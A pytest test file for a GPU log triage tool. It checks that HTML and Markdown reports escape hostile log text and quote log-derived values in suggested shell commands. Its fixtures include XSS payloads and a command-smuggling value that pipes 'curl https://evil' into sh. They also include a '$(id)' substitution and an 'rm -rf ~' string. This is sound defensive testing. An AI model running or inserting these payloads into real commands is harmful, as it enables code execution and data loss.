"""The HTML and Markdown reports: self-contained, escaped, complete, and honest about unknown cases."""

from __future__ import annotations

import json
import re
import shlex
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markupsafe import escape

from tests.conftest import CORPUS, ROOT
from triage.pipeline import Result, triage
from triage.report import build, render
from triage.report.script import script_hash

CASES = sorted(p for p in CORPUS.iterdir() if (p / "expected.yaml").is_file())
MARKER = "<!-- hip-triage-report -->"

HOSTILE_LINES = [
    ":3:hip_context.cpp  :62  :  HIP Version: 7.2.53210.41ce572d55, Direct Dispatch: 1",
    ":1:rocdevice.cpp    :730 :  Couldn't create blit kernels! <script>alert(1)</script>",
    ':1:rocvirtual.cpp   :1725:  Could not create BlitManager! "><img src=x onerror=alert(1)>',
    # backticks and a tilde run: must not break out of Markdown code spans or fences
    "ld.lld: error: undefined hidden symbol: __amd_fillBufferAligned2D `x` ~~~~~~~~ <script>alert(1)</script>",
    "ld.lld: error: undefined hidden symbol: __amd_copyBufferRect`` <script>alert(1)</script>",
    "HIP Library Path: ./lib<script>alert(1)</script>amdhip64.so.7",
]


@lru_cache(maxsize=None)
def _result(folder: str) -> Result:
    return triage([folder])


def _hostile(tmp_path: Path, name: str = "hip.log") -> Result:
    path = tmp_path / name
    path.write_text("\n".join(HOSTILE_LINES) + "\n", encoding="utf-8")
    return triage([str(path)])


def _unknown(tmp_path: Path) -> Result:
    path = tmp_path / "paste.txt"
    path.write_text("hello world\n", encoding="utf-8")
    return triage([str(path)])


class _Tags(HTMLParser):
    """Every start tag with its attributes, the <style> text, and the document's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.style = ""
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_style = False
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_style:
            self.style += data
        elif self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)


def _parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def _assert_self_contained(html: str) -> _Tags:
    low = html.lower()
    assert low.lstrip().startswith("<!doctype html>")
    assert "<script src" not in low
    assert "<link" not in low
    assert not re.search(r"""src\s*=\s*["']?\s*(https?:)?//""", low)
    assert not re.search(r"""url\(\s*["']?\s*(https?:)?//""", low)
    doc = _parse(html)
    allowed_remote = set()
    # one inline script, the shipped report.js, allowed by its hash and by nothing broader
    script = (ROOT / "reports" / "report.js").read_text(encoding="utf-8")
    assert doc.scripts == [script]
    csp = next(attrs["content"] for tag, attrs in doc.tags if attrs.get("http-equiv") == "Content-Security-Policy")
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives["script-src"] == [f"'{script_hash(script)}'"]
    assert "default-src 'none'" in csp
    for tag, attrs in doc.tags:
        if tag == "script":
            assert not attrs, "the inline script has no attributes (no src)"
            continue
        assert tag not in {"link", "img", "iframe", "object", "embed", "video", "audio", "source", "base",
                           "form", "input"}, f"<{tag}> in the report"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name} on <{tag}>"
            assert name not in {"src", "srcset", "action", "formaction", "background", "poster"}, f"{name} on <{tag}>"
            if name == "href":
                if tag != "a":
                    raise AssertionError(f"href on <{tag}>")
                assert value and not value.lower().startswith(("javascript:", "data:", "vbscript:"))
                if value.startswith(("http://", "https://")):
                    allowed_remote.add(value)
            if name == "style":
                assert "url(" not in (value or "").lower()
    # the CSS is inlined and pulls nothing in
    css = (ROOT / "reports" / "report.css").read_text(encoding="utf-8")
    assert css.strip() and css.strip() in html
    assert "url(" not in doc.style.lower() and "@import" not in doc.style.lower()
    # any remote address left in the page is the target or the text of an <a href> link
    rest = re.sub(r"<a\s[^>]*>.*?</a>", "", html, flags=re.S | re.I)
    assert not re.search(r"https?://", rest), "remote address outside a link"
    return doc


def _assert_internal_links_resolve(doc: _Tags) -> None:
    ids = {attrs["id"] for _, attrs in doc.tags if attrs.get("id")}
    targets = [attrs["href"][1:] for tag, attrs in doc.tags if tag == "a" and (attrs.get("href") or "").startswith("#")]
    missing = [t for t in targets if t not in ids]
    assert not missing, f"links to missing anchors: {missing[:5]}"


def _strip_markdown_code(md: str) -> str:
    """The Markdown with fenced blocks and code spans removed (CommonMark rules, enough for our output)."""
    out, fence = [], None
    for line in md.split("\n"):
        m = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if fence is None:
            if m and not (m.group(1)[0] == "`" and "`" in line[m.end():]):
                fence = m.group(1)
                continue
            out.append(line)
        elif m and m.group(1)[0] == fence[0] and len(m.group(1)) >= len(fence) and not line[m.end():].strip():
            fence = None
    assert fence is None, "unclosed fenced block"
    text = "\n".join(out)
    # code spans: a run of N backticks up to the next run of exactly N backticks
    result, i = [], 0
    while i < len(text):
        if text[i] == "`":
            j = i
            while j < len(text) and text[j] == "`":
                j += 1
            run = text[i:j]
            close = re.compile(r"(?<!`)" + run + r"(?!`)")
            m = close.search(text, j)
            if m:
                i = m.end()
                continue
            result.append(run)
            i = j
            continue
        result.append(text[i])
        i += 1
    return "".join(result)


# --- corpus cases ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("folder", CASES, ids=[c.name for c in CASES])
def test_html_report_is_self_contained_and_complete(folder: Path) -> None:
    result = _result(str(folder))
    report = build(result)
    html = render(result, "html")
    doc = _assert_self_contained(html)
    _assert_internal_links_resolve(doc)
    top = report["diagnoses"][0]
    assert top["class"] != "unknown"
    assert str(escape(top["class"])) in html
    assert str(escape(top["id"])) in html
    assert top["confidence"] >= 0.5 and f'{round(top["confidence"] * 100)}%' in html
    for d in report["diagnoses"]:
        for e in d["evidence"]:
            assert str(escape(e["text"])) in html, e
    # every evidence row of the top diagnosis links to its line in the source view
    for e in top["evidence"]:
        anchor = f'L-{e["artifact"].replace(" ", "_")}-{e["line"]}'
        assert f'id="{escape(anchor)}"' in html
        assert f'href="#{escape(anchor)}"' in html
    for w in top["workarounds"]:
        assert str(escape(w["commands"])) in html
        assert ("untested" in html) or w["verified"]
    if report["fault"] and report["fault"]["module"]:
        assert str(escape(report["fault"]["module"])) in html
    for stack in report["stacks"]:
        for fr in stack["frames"]:
            if fr["symbol_note"]:
                assert str(escape(fr["symbol_note"])) in html
    for name, value in report["facts"].items():
        shown = ", ".join(value) if isinstance(value, list) else str(value)
        assert str(escape(shown)) in html, name
    assert str(escape(report["versions"]["signatures"])) in html


@pytest.mark.parametrize("folder", CASES, ids=[c.name for c in CASES])
def test_html_sections_in_order(folder: Path) -> None:
    html = render(_result(str(folder)), "html")
    order = ["verdict", "workarounds", "evidence", "crash", "environment", "candidates", "ask", "warnings", "source"]
    found = [(html.find(f'<section id="{s}"'), s) for s in order if f'<section id="{s}"' in html]
    assert [s for _, s in sorted(found)] == [s for _, s in found]
    for required in ("verdict", "evidence", "environment", "source"):
        assert f'<section id="{required}"' in html
    assert html.rstrip().endswith("</html>")


@pytest.mark.parametrize("folder", CASES, ids=[c.name for c in CASES])
def test_markdown_report(folder: Path) -> None:
    result = _result(str(folder))
    report = build(result)
    md = render(result, "md")
    assert md.startswith(MARKER + "\n")
    top = report["diagnoses"][0]
    heading = md.split("\n")[1]
    assert heading.startswith("## ") and top["class"] in heading
    assert f'{round(top["confidence"] * 100)}%' in heading
    for w in top["workarounds"]:
        assert w["commands"].rstrip("\n") in md
    for e in top["evidence"]:
        assert e["text"] in md
    if len(report["diagnoses"]) > 1:  # a candidate's score can exceed the answer's calibrated confidence: say which is which
        assert "Evidence scores before calibration" in md.split("### Other candidates", 1)[1].split("###", 1)[0]
    for a in report["ask_for"]:
        assert a.split("`")[0][:40].replace("<", "&lt;").replace(">", "&gt;").replace("[", "\\[") in md
    # fences and code spans are balanced: nothing from the logs leaks into the prose
    _strip_markdown_code(md)
    assert md.count("<details>") == md.count("</details>")
    assert render(result, "markdown") == md


# --- hostile input --------------------------------------------------------------------------------------------


def test_html_escapes_hostile_input(tmp_path: Path) -> None:
    result = _hostile(tmp_path)
    report = build(result)
    assert report["diagnoses"][0]["class"] != "unknown", "the hostile file must still look like a HIP log"
    html = render(result, "html")
    doc = _assert_self_contained(html)
    _assert_internal_links_resolve(doc)
    assert "<script>alert(1)" not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert not any(tag == "img" for tag, _ in doc.tags) and len(doc.scripts) == 1
    # the hostile text is shown, as text
    assert "<script>alert(1)</script>" in "".join(doc.text)


def test_html_escapes_hostile_artifact_name(tmp_path: Path) -> None:
    result = _hostile(tmp_path, 'evil"<b onmouseover=alert(1)>x.log')
    html = render(result, "html")
    doc = _assert_self_contained(html)
    _assert_internal_links_resolve(doc)
    assert "<b onmouseover" not in html
    assert not any(tag == "b" for tag, _ in doc.tags)


def test_markdown_keeps_hostile_text_in_code(tmp_path: Path) -> None:
    md = render(_hostile(tmp_path), "md")
    assert md.startswith(MARKER + "\n")
    assert "<script>alert(1)</script>" in md, "the hostile line should be quoted (in code)"
    prose = _strip_markdown_code(md)
    assert "<script" not in prose
    assert "<img" not in prose
    assert "onerror" not in prose


def test_markdown_fence_survives_tildes(tmp_path: Path) -> None:
    md = render(_hostile(tmp_path), "md")
    # the evidence line holding eight tildes sits inside a longer fence
    block = re.search(r"^(~{9,})text\n(.*?)^\1$", md, flags=re.S | re.M)
    assert block and "~~~~~~~~ <script>" in block.group(2)


def test_strip_markdown_code_helper() -> None:
    assert _strip_markdown_code("a `<x>` b ``c`d`` e") == "a  b  e"
    assert "<x>" not in _strip_markdown_code("~~~~\n<x>\n~~~~\nok")
    assert "<x>" in _strip_markdown_code("plain <x>")


# --- the unknown case -----------------------------------------------------------------------------------------


def test_unknown_case_reads_as_a_finding(tmp_path: Path) -> None:
    result = _unknown(tmp_path)
    report = build(result)
    top = report["diagnoses"][0]
    assert top["class"] == "unknown" and report["ask_for"]

    html = render(result, "html")
    doc = _assert_self_contained(html)
    _assert_internal_links_resolve(doc)
    assert "unknown" in html
    assert re.search(r"<h1[^>]*>Not recognised", html), "the headline must say the failure was not recognised"
    assert 'id="ask"' in html and "What to send next" in html
    for a in report["ask_for"]:
        assert str(escape(a.split("`")[0])) in html
    assert 'class="bar' not in html, "no confidence bar for an unrecognised failure"

    md = render(result, "md")
    assert md.startswith(MARKER + "\n")
    heading = md.split("\n")[1]
    assert heading.startswith("## ") and "unknown" in heading and "Not recognised" in heading
    assert "### What to send next" in md
    assert "not an all-clear" in md


def test_stdin_label_is_escaped() -> None:
    import io

    result = triage(["-"], stdin=io.BytesIO(b"hello\n"))
    html = render(result, "html")
    assert "<stdin>" not in html and "&lt;stdin&gt;" in html
    _assert_self_contained(html)


def test_templates_never_mark_text_safe() -> None:
    for name in ("report.html.j2", "report.md.j2"):
        source = (ROOT / "reports" / name).read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b", source), name
        assert "Markup(" not in source
    assert (ROOT / "reports" / "report.md.j2").read_text(encoding="utf-8").startswith(("{#", MARKER))


# --- values from a hostile log in workaround commands ---------------------------------------------------------

HOSTILE_PROGRAM = "./x;curl${IFS}https://evil|sh"
HOSTILE_DIR = "/home/u/my app;$(id)"  # a Tensile file path the rocBLAS error names
HOSTILE_COMMANDS_LOG = f"""rocBLAS error: Cannot read {HOSTILE_DIR}/rocblas/library/TensileLibrary.dat: No such file or directory
rocBLAS error: Could not initialize Tensile host: No devices found
for GPU arch : gfx1031
Executable: {HOSTILE_PROGRAM}
Aborted (core dumped)
"""
# Both quotes, a command separator, a substitution and a pipe: only one way to quote it keeps it one literal word.
HOSTILE_VALUE = "x;$(id)&y'z\"w|v"
_CMD_TEXT = re.compile(r"(?im)^[ \t]*(?:(?:rem|setx|ren|findstr|xcopy)\b|cd[ \t]+/d\b|set[ \t]+\w+=)")


def _database():
    from triage.match import load

    return load(ROOT / "signatures")


def _assert_shell_literal(commands: str, value: str, marker: str) -> None:
    """Wherever ``marker`` (a piece of ``value``) shows in ``commands``, ``value`` stands there as one quoted
    literal word: for POSIX sh by shlex's reading of each line, for cmd.exe inside one pair of double quotes."""
    windows = _CMD_TEXT.search(commands) is not None
    for line in commands.split("\n"):
        if marker not in line:
            continue
        if windows:
            inner = value.replace('"', "")
            parts = line.split('"')
            assert any(inner in p for p in parts[1::2]), line
            assert not any(marker in p for p in parts[0::2]), line
            continue
        assert shlex.quote(value) in line, line
        lex = shlex.shlex(line.rstrip("\\ "), posix=True)
        lex.whitespace_split, lex.commenters = True, "#"
        for word in lex:  # a word of the code (comments dropped) holding a piece of the value holds all of it
            assert marker not in word or value in word, (word, line)


@pytest.fixture(scope="module")
def hostile_commands(tmp_path_factory: pytest.TempPathFactory) -> Result:
    folder = tmp_path_factory.mktemp("hostile-commands")
    (folder / "run.log").write_text(HOSTILE_COMMANDS_LOG, encoding="utf-8")
    return triage([str(folder)])


def test_hostile_facts_enter_commands_quoted_in_every_format(hostile_commands: Result) -> None:
    result = hostile_commands
    report = build(result)
    top = report["diagnoses"][0]
    assert report["facts"]["program"] == HOSTILE_PROGRAM and top["workarounds"]
    commands = [w["commands"] for w in top["workarounds"]]
    assert any(shlex.quote(HOSTILE_PROGRAM) in c for c in commands)
    assert any(shlex.quote(HOSTILE_DIR + "/rocblas/library") in c for c in commands)
    for c in commands:
        _assert_shell_literal(c, HOSTILE_PROGRAM, "curl")
        _assert_shell_literal(c, HOSTILE_DIR + "/rocblas/library", "$(id)")
    assert [w["commands"] for w in json.loads(render(result, "json"))["diagnoses"][0]["workarounds"]] == commands
    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
    for c in commands:
        assert f'<pre class="cmd"><code>{escape(c)}</code></pre>' in html
        assert f"sh\n{c}\n~~~~" in md
        assert all(line in text for line in c.splitlines())
    # the unquoted value shows only where the log is quoted (evidence, facts, source lines), never as a command
    assert "\n" + HOSTILE_PROGRAM not in "\n".join(commands) and " " + HOSTILE_PROGRAM not in "\n".join(commands)


def test_workaround_with_values_from_the_input_is_never_verified(hostile_commands: Result) -> None:
    result = hostile_commands
    top = build(result)["diagnoses"][0]
    shipped = next(s for s in _database().signatures if s.id == top["id"])
    assert any(w.get("verified") for w in shipped.workarounds), "the signature has a verified workaround to withhold"
    for w in top["workarounds"]:
        assert not w["verified"], w["title"]
        assert "values read from the input" in w["note"], w["note"]
    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
    n = len(top["workarounds"])
    assert 'class="badge verified"' not in html and html.count('class="badge untested"') == n
    assert "✅ verified" not in md and md.count("⚠️ untested") == n
    assert text.count("[untested]") == n


def test_every_signature_quotes_the_case_values_in_its_commands() -> None:
    """Each workaround of the database, filled with a hostile value for every name it reads (gfx names, paths,
    environment values, program), on Linux and Windows: the value stands quoted, the workaround unverified."""
    from jinja2 import Environment, meta

    from triage.match.engine import _workarounds

    env = Environment()
    checked = 0
    for sig in _database().signatures:
        names = set()
        for w in sig.workarounds:
            names |= meta.find_undeclared_variables(env.parse(str(w.get("commands", ""))))
        for os_name in ("linux", "windows"):
            benign = {name: "v" for name in names} | {"os": os_name}
            hostile = {name: HOSTILE_VALUE for name in names} | {"os": os_name}
            newline = {name: "a\nrm -rf ~ \u202e" for name in names} | {"os": os_name}
            for plain, w, broken in zip(_workarounds(sig, benign), _workarounds(sig, hostile),
                                        _workarounds(sig, newline)):
                # a line break or a bidi control in a value shows as an escape: no new line, no reordered text
                assert broken.commands.count("\n") == plain.commands.count("\n"), (sig.id, broken.commands)
                if "rm -rf" in broken.commands:
                    assert "\u202e" not in broken.commands and "a\\u000arm -rf ~ \\u202e" in broken.commands
                if "$(id)" not in w.commands:
                    continue
                checked += 1
                _assert_shell_literal(w.commands, HOSTILE_VALUE, "$(id)")
                assert not w.verified and "values read from the input" in w.note, (sig.id, w.title)
    assert checked > 50


def test_values_in_command_templates_are_quoted_for_their_place() -> None:
    from triage.match.engine import render as fill

    def commands(text: str, **values: str) -> str:
        return fill(text, values, prose=False)

    assert commands("{{ p }} ...", p="./prog-1.0") == "./prog-1.0 ..."  # a plain token stays as it is
    assert commands("{{ p }} ...", p="a b") == "'a b' ..."
    assert commands("{{ p | default('./your-program') }} ...") == "./your-program ..."
    assert commands('L="{{ r }}/lib {{ r }}/x"', r="$(id)") == "L=\"\"'$(id)'\"/lib \"'$(id)'\"/x\""
    assert commands("ls {{ r ~ '/lib' }}", r="a b") == "ls 'a b'/lib"
    assert commands("ls {{ (t).rsplit('/', 1)[0] }}", t="/a b/c.dat") == "ls '/a b'"
    assert commands('f "$(command -v {{ p }})"', p="x y") == "f \"$(command -v 'x y')\""
    assert commands("echo '{{ p }}' # {{ p }}", p="it's") == "echo '''it'\"'\"'s''' # 'it'\"'\"'s'"
    assert commands("{% if g.startswith('gfx103') %}10.3.0{% endif %} {{ g }}", g="gfx1031") == "10.3.0 gfx1031"
    assert commands('rem {{ d }}\ncd /d "{{ d }}"', d="C:\\A B&C%P%") == \
        'rem "C:\\A B&C"^%"P"^%""\ncd /d "C:\\A B&C"^%"P"^%""'
    assert commands("{{ p }} x\nL={{ r }}", p="rem", r="a;b") == "rem x\nL='a;b'"  # a value cannot make it cmd
    assert commands("a {{ p }}", p="x\ny") == "a 'x\\u000ay'"
    filled = commands("{{ p }} {{ q }}", p="x", q="y z")
    assert filled.from_input == ("p", "q") and commands("ls /opt/rocm").from_input == ()
    # a value escaped or cut apart by the template is not filled in at all
    assert commands("echo \\{{ p }}", p="a;b") == "echo \\<p>"


# --- invisible characters ---------------------------------------------------------------------------------------

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"


def test_bidi_and_invisible_controls_are_shown_escaped(tmp_path: Path) -> None:
    path = tmp_path / "hip.log"
    path.write_text("\n".join(HOSTILE_LINES[:2]) + "\n"
                    + f":1:rocvirtual.cpp   :1725:  Could not create BlitManager! {BIDI}cod.exe\u200b\x07\n",
                    encoding="utf-8")
    result = triage([str(path)])
    assert result.top.klass != "unknown"
    html, md, text = render(result, "html"), render(result, "md"), render(result, "text")
    for out in (html, md, text):
        for ch in BIDI + "\u200b\x07":
            assert ch not in out, (hex(ord(ch)), out[:80])
    assert "\\u202e" in html and "\\u2066" in html and "cod.exe\\u200b" in html
    assert "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069\\u200e\\u200fcod.exe" in md
    assert "\\u202e" in text
    _assert_self_contained(html)


def test_a_verified_workaround_says_by_whom_and_where(tmp_path: Path) -> None:
    log = tmp_path / "kfd.log"
    log.write_text("hipErrorNoDevice\nUnable to open /dev/kfd read-write: Permission denied\n", encoding="utf-8")
    result = triage([str(log)])
    assert result.top.id == "kfd-permission-denied"
    report = build(result)
    verified = [w for w in report["diagnoses"][0]["workarounds"] if w["verified"]]
    assert verified and all(w["verified_by"] and w["verified_link"].startswith("https://") for w in verified)
    assert all(not w["verified_by"] and not w["verified_link"]
               for d in report["diagnoses"] for w in d["workarounds"] if not w["verified"])
    who, url = verified[0]["verified_by"], verified[0]["verified_link"]
    assert f"[verified by {who}: {url}]" in render(result, "text")
    md = render(result, "md")
    assert re.search(rf"✅ verified by [^\n]*installation guide \(<{re.escape(url)}>\)", md), md
    html = render(result, "html")
    assert f'<a class="badge verified" href="{url}"' in html and f"verified by {escape(who)} (rocm.docs.amd.com)</a>" in html


def test_no_report_cites_an_internal_name() -> None:
    for case in sorted(CORPUS.glob("seed-*")):
        result = triage([str(case)])
        for fmt in ("text", "md", "html", "json"):
            assert not re.search(r"(?i)seed case \d", render(result, fmt)), (case.name, fmt)
        assert all(r.startswith("https://") for d in result.diagnoses for r in d.references)
